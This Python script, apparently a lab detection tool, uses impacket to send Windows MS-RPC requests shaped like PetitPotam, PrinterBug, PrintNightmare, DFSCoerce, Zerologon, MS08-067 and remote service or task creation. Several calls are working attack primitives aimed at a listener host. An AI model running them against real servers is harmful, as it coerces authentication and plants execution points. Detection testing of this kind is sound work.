#!/usr/bin/python3
"""Sends the request by which a known attack over MS-RPC is recognised.

attacks.py [options] SHAPE SERVER

The shape "path" is the honest use of the operation that ms08-067 misuses.
Only the shape of the request is there: no payload, nothing that runs, no
password that changes. It is meant for the servers of the lab, which answer
with a fault or an error; what they answer is printed.
"""

import argparse
import sys

from impacket import uuid
from impacket.dcerpc.v5 import atsvc, dcomrt, epm, nrpc, rprn, rrp, scmr, srvs, transport, tsch
from impacket.dcerpc.v5.dtypes import DWORD, LPWSTR, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import (
    DCERPCException,
    RPC_C_AUTHN_LEVEL_NONE,
    RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
    RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
)

LISTENER = "\\\\10.66.20.20\\share"  # where a coerced server would log on

MSRPC_UUID_EFSR_LSARPC = uuid.uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
MSRPC_UUID_EFSR_EFSRPC = uuid.uuidtup_to_bin(("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0"))
MSRPC_UUID_DFSNM = uuid.uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"))
MSRPC_UUID_FSRVP = uuid.uuidtup_to_bin(("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0"))
MSRPC_UUID_REMOTE_ACTIVATION = uuid.uuidtup_to_bin(("4d9f4ab8-7d1c-11cf-861e-0020af6e7c57", "0.0"))


class EfsRpcOpenFileRaw(NDRCALL):  # MS-EFSR 3.1.4.2.1
    opnum = 0
    structure = (("FileName", WSTR), ("Flags", DWORD))


class EfsRpcEncryptFileSrv(NDRCALL):  # MS-EFSR 3.1.4.2.5
    opnum = 4
    structure = (("FileName", WSTR),)


class NetrDfsAddStdRoot(NDRCALL):  # MS-DFSNM 3.1.4.4.1
    opnum = 12
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("Comment", WSTR), ("ApiFlags", DWORD))


class NetrDfsRemoveStdRoot(NDRCALL):  # MS-DFSNM 3.1.4.4.2
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


class IsPathSupported(NDRCALL):  # MS-FSRVP 3.1.4.9
    opnum = 8
    structure = (("ShareName", WSTR),)


class IsPathShadowCopied(NDRCALL):  # MS-FSRVP 3.1.4.10
    opnum = 9
    structure = (("ShareName", WSTR),)


class NetrpPathCanonicalize(NDRCALL):  # MS-SRVS 3.1.4.30
    opnum = 31
    structure = (
        ("ServerName", LPWSTR),
        ("PathName", WSTR),
        ("OutbufLen", DWORD),
        ("Prefix", WSTR),
        ("PathType", DWORD),
        ("Flags", DWORD),
    )


def request(dce, kind, **fields):
    """Sends a request and prints what comes back."""
    call = kind()
    for name, value in fields.items():
        call[name] = value
    try:
        dce.call(call.opnum, call)
        answer = dce.recv()
        print(f"{kind.__name__}: {len(answer)} bytes: {answer[-4:].hex()}")
        return answer
    except DCERPCException as error:
        print(f"{kind.__name__}: {error}")
        return b""


def petitpotam(dce, server):
    request(dce, EfsRpcOpenFileRaw, FileName=LISTENER + "\\x\0", Flags=0)


def petitpotam_encrypt(dce, server):
    request(dce, EfsRpcEncryptFileSrv, FileName=LISTENER + "\\x\0")


def printerbug(dce, server):
    try:
        handle = rprn.hRpcOpenPrinter(dce, f"\\\\{server}\0")["pHandle"]
    except DCERPCException as error:
        print(f"RpcOpenPrinter: {error}")
        handle = b"\0" * 20
    request(
        dce,
        rprn.RpcRemoteFindFirstPrinterChangeNotificationEx,
        hPrinter=handle,
        fdwFlags=rprn.PRINTER_CHANGE_ADD_JOB,
        fdwOptions=0,
        pszLocalMachine="\\\\10.66.20.20\0",
        dwPrinterLocal=0,
        pOptions=NULL,
    )


def printnightmare(dce, server):
    info = rprn.DRIVER_CONTAINER()
    info["Level"] = 2
    info["DriverInfo"]["tag"] = 2
    level = info["DriverInfo"]["Level2"]
    level["cVersion"] = 3
    level["pName"] = "Lab driver\0"
    level["pEnvironment"] = "Windows x64\0"
    level["pDriverPath"] = "C:\\Windows\\System32\\UNIDRV.DLL\0"
    level["pDataFile"] = LISTENER + "\\lab.dll\0"
    level["pConfigFile"] = "C:\\Windows\\System32\\kernelbase.dll\0"
    flags = rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000  # from a directory, install warned driver
    request(dce, rprn.RpcAddPrinterDriverEx, pName=f"\\\\{server}\0", pDriverContainer=info, dwFileCopyFlags=flags)


def dfscoerce(dce, server):
    request(dce, NetrDfsAddStdRoot, ServerName="10.66.20.20\0", RootShare="share\0", Comment="x\0", ApiFlags=0)
    request(dce, NetrDfsRemoveStdRoot, ServerName="10.66.20.20\0", RootShare="share\0", ApiFlags=0)


def shadowcoerce(dce, server):
    request(dce, IsPathSupported, ShareName=LISTENER + "\0")
    request(dce, IsPathShadowCopied, ShareName=LISTENER + "\0")


def zerologon(dce, server):
    for _ in range(4):
        challenge = dict(PrimaryName=f"\\\\{server}\0", ComputerName="DC1\0", ClientChallenge=b"\0" * 8)
        request(dce, nrpc.NetrServerReqChallenge, **challenge)
        request(
            dce,
            nrpc.NetrServerAuthenticate3,
            PrimaryName=f"\\\\{server}\0",
            AccountName="DC1$\0",
            SecureChannelType=nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
            ComputerName="DC1\0",
            ClientCredential=b"\0" * 8,
            NegotiateFlags=0x212FFFFF,
        )


def canonicalize(dce, server, path, prefix):
    request(
        dce,
        NetrpPathCanonicalize,
        ServerName=f"\\\\{server}\0",
        PathName=path + "\0",
        OutbufLen=1024,
        Prefix=prefix + "\0",
        PathType=1,
        Flags=0,
    )


def ms08_067(dce, server):
    canonicalize(dce, server, "\\A\\..\\..\\x", "\\")


def path(dce, server):
    canonicalize(dce, server, "\\A\\B\\..\\x", "\\")


def ms06_040(dce, server):
    canonicalize(dce, server, "A" * 800, "B" * 200)


def ms03_026(dce, server):
    call = dcomrt.RemoteActivation()
    call["ORPCthis"]["version"]["MajorVersion"] = 5
    call["ORPCthis"]["version"]["MinorVersion"] = 1
    call["ORPCthis"]["extensions"] = NULL
    call["Clsid"] = b"\0" * 16
    call["pwszObjectName"] = "\\\\" + "A" * 300 + "\\c$\\1\0"
    call["pObjectStorage"] = NULL
    call["ClientImpLevel"] = 2
    call["Mode"] = 0
    call["Interfaces"] = 1
    iid = dcomrt.IID()
    iid["Data"] = uuid.string_to_bin("00000000-0000-0000-c000-000000000046")
    call["pIIDs"].append(iid)
    call["cRequestedProtseqs"] = 1
    call["aRequestedProtseqs"].append(7)
    try:
        dce.call(call.opnum, call)
        print(f"RemoteActivation: {len(dce.recv())} bytes")
    except DCERPCException as error:
        print(f"RemoteActivation: {error}")


def service(dce, server):
    manager = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    try:
        scmr.hRCreateServiceW(dce, manager, "labservice\0", "Lab service\0", lpBinaryPathName="C:\\lab\\service.exe\0")
    except DCERPCException as error:
        print(f"RCreateServiceW: {error}")


TASK = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Actions><Exec><Command>C:\\lab\\task.exe</Command></Exec></Actions>
</Task>
"""


def task(dce, server):
    try:
        tsch.hSchRpcRegisterTask(dce, "\\labtask\0", TASK, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    except DCERPCException as error:
        print(f"SchRpcRegisterTask: {error}")


def job(dce, server):
    info = atsvc.AT_INFO()
    info["JobTime"] = 0
    info["DaysOfMonth"] = 0
    info["DaysOfWeek"] = 0
    info["Flags"] = 0
    info["Command"] = "C:\\lab\\task.exe\0"
    request(dce, atsvc.NetrJobAdd, ServerName=f"\\\\{server}\0", pAtInfo=info)


def registry(dce, server):
    root = rrp.hOpenLocalMachine(dce)["phKey"]
    key = rrp.hBaseRegOpenKey(dce, root, "SOFTWARE\\Microsoft\0")["phkResult"]
    for step in (
        lambda: rrp.hBaseRegSaveKey(dce, key, "C:\\lab\\key.save\0"),
        lambda: rrp.hBaseRegSetValue(dce, key, "lab\0", rrp.REG_SZ, "x\0"),
    ):
        try:
            step()
        except DCERPCException as error:
            print(error)


# Shape: pipe or None for TCP by the endpoint mapper, interface, what to send.
SHAPES = {
    "petitpotam": ("lsarpc", MSRPC_UUID_EFSR_LSARPC, petitpotam),
    "petitpotam-efsrpc": ("efsrpc", MSRPC_UUID_EFSR_EFSRPC, petitpotam_encrypt),
    "printerbug": ("spoolss", rprn.MSRPC_UUID_RPRN, printerbug),
    "printnightmare": ("spoolss", rprn.MSRPC_UUID_RPRN, printnightmare),
    "dfscoerce": ("netdfs", MSRPC_UUID_DFSNM, dfscoerce),
    "shadowcoerce": ("FssagentRpc", MSRPC_UUID_FSRVP, shadowcoerce),
    "zerologon": ("netlogon", nrpc.MSRPC_UUID_NRPC, zerologon),
    "ms08-067": ("srvsvc", srvs.MSRPC_UUID_SRVS, ms08_067),
    "ms08-067-browser": ("browser", srvs.MSRPC_UUID_SRVS, ms08_067),
    "path": ("srvsvc", srvs.MSRPC_UUID_SRVS, path),
    "ms06-040": ("browser", srvs.MSRPC_UUID_SRVS, ms06_040),
    "ms03-026": (135, MSRPC_UUID_REMOTE_ACTIVATION, ms03_026),
    "service": ("svcctl", scmr.MSRPC_UUID_SCMR, service),
    "task": ("atsvc", tsch.MSRPC_UUID_TSCHS, task),
    "job": ("atsvc", atsvc.MSRPC_UUID_ATSVC, job),
    "registry": ("winreg", rrp.MSRPC_UUID_RRP, registry),
}
LEVELS = {
    "none": RPC_C_AUTHN_LEVEL_NONE,
    "sign": RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
    "seal": RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("shape", choices=SHAPES)
    parser.add_argument("server")
    parser.add_argument("-u", dest="user", default="", help="NAME:PASSWORD of the domain; default: no name")
    parser.add_argument("-l", dest="level", choices=LEVELS, default="none", help="security of RPC itself")
    parser.add_argument("-t", dest="tcp", action="store_true", help="over TCP, port from the endpoint mapper")
    parser.add_argument("-1", dest="smb1", action="store_true", help="over SMB1")
    args = parser.parse_args()

    pipe, interface, send = SHAPES[args.shape]
    if args.tcp:
        binding = epm.hept_map(args.server, interface, protocol="ncacn_ip_tcp")
    elif pipe == 135:
        binding = f"ncacn_ip_tcp:{args.server}[135]"
    else:
        binding = f"ncacn_np:{args.server}[\\pipe\\{pipe}]"
    rpc = transport.DCERPCTransportFactory(binding)
    name, _, password = args.user.partition(":")
    if hasattr(rpc, "set_credentials"):
        rpc.set_credentials(name, password, "CORP" if name else "")
    if args.smb1:
        rpc.preferred_dialect("NT LM 0.12")
    dce = rpc.get_dce_rpc()
    if args.level != "none":
        dce.set_auth_level(LEVELS[args.level])
    try:
        dce.connect()
        dce.bind(interface)
        send(dce, args.server)
    except Exception as error:  # a refusal is what is recorded
        print(f"{type(error).__name__}: {error}", file=sys.stderr)


if __name__ == "__main__":
    main()
